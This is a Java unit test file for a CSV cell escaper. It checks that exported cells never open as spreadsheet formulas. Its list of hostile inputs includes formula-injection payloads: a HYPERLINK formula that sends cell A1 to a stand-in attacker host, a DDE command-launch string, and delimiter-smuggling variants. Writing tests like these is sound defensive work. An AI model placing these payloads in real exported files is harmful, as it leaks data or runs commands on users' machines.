package dev.meterlark.shared;

import static org.assertj.core.api.Assertions.assertThat;

import static java.nio.charset.StandardCharsets.UTF_8;

import dev.meterlark.shared.Spreadsheet.Cell;
import dev.meterlark.shared.Spreadsheet.Kind;

import org.junit.jupiter.api.Test;

import tools.jackson.databind.json.JsonMapper;

import java.util.List;
import java.util.Map;

public class CsvCellTests {

    /** What begins formulas, and what ends cells before them. */
    public static final List<String> HOSTILE =
            List.of(
                    "=1+1",
                    "=HYPERLINK(\"http://attacker.example/?\"&A1,\"open\")",
                    "+cmd|' /C calc'!A0",
                    "-2+3",
                    "@SUM(1)",
                    "\t=1+1",
                    "  =1+1",
                    "x;=1+1;y",
                    "x,=1+1,y",
                    "x\t=1+1\ty",
                    "x\n=1+1\ny",
                    "a \"quoted\",=1+1,\"text\"",
                    "＝1+1",
                    "=אבג+1",
                    "plain");

    @Test
    void aSpreadsheetProgramTakesNoTextForAFormula() {
        StringBuilder csv = new StringBuilder("text,number,again\r\n");
        for (String text : HOSTILE) {
            csv.append(CsvCell.of(text)).append(",1.25,").append(CsvCell.of(text)).append("\r\n");
        }

        Spreadsheet opened = Spreadsheet.of(csv.toString().getBytes(UTF_8));

        assertThat(opened.rows()).hasSize(HOSTILE.size() + 1);
        for (int row = 1; row <= HOSTILE.size(); row++) {
            String text = HOSTILE.get(row - 1);
            assertThat(opened.row(row)).as(text).hasSize(3);
            assertThat(opened.at(row, 1)).as(text).isEqualTo(new Cell(Kind.NUMBER, "1.25"));
            for (int column : new int[] {0, 2}) {
                Cell cell = opened.at(row, column);
                assertThat(cell.kind()).as(text).isEqualTo(Kind.TEXT);
                assertThat(cell.content().replace("'", "")).isEqualTo(text.replace("'", ""));
            }
        }
    }

    @Test
    void theProgramWouldTakeThemForFormulasOtherwise() {
        Spreadsheet opened = Spreadsheet.of("text,number\r\n=1+1,2\r\n".getBytes(UTF_8));

        assertThat(opened.at(1, 0).kind()).isEqualTo(Kind.FORMULA);
    }

    @Test
    void noOtherEndOfACellLeavesAFormula() {
        for (String text : HOSTILE) {
            String json = JsonMapper.shared().writeValueAsString(Map.of("team", text));
            for (CsvCell cell : List.of(CsvCell.of(text), CsvCell.ofJson(json))) {
                assertThat(cell.written().split("[;|\t\n]"))
                        .as(text)
                        .noneMatch(part -> part.strip().matches("(?s)[=+\\-@＝].*"));
            }
        }
    }

    @Test
    void jsonStaysTheSameJson() {
        Map<String, String> tags = Map.of("team", "x;=1+1;y|@SUM(1) a;b");

        String cell = CsvCell.ofJson(JsonMapper.shared().writeValueAsString(tags)).written();

        String json = cell.substring(1, cell.length() - 1).replace("\"\"", "\"");
        assertThat(json).contains("a;b").doesNotContain(";=");
        assertThat(JsonMapper.shared().readValue(json, Map.class)).isEqualTo(tags);
    }

    @Test
    void whatNeedsNoQuotesHasNone() {
        assertThat(CsvCell.of("2026-11-01T00:00:00Z it's"))
                .hasToString("2026-11-01T00:00:00Z it's");
        assertThat(CsvCell.of("")).hasToString("");
        assertThat(CsvCell.of("say \"hi\"")).hasToString("\"say \"\"hi\"\"\"");
    }
}
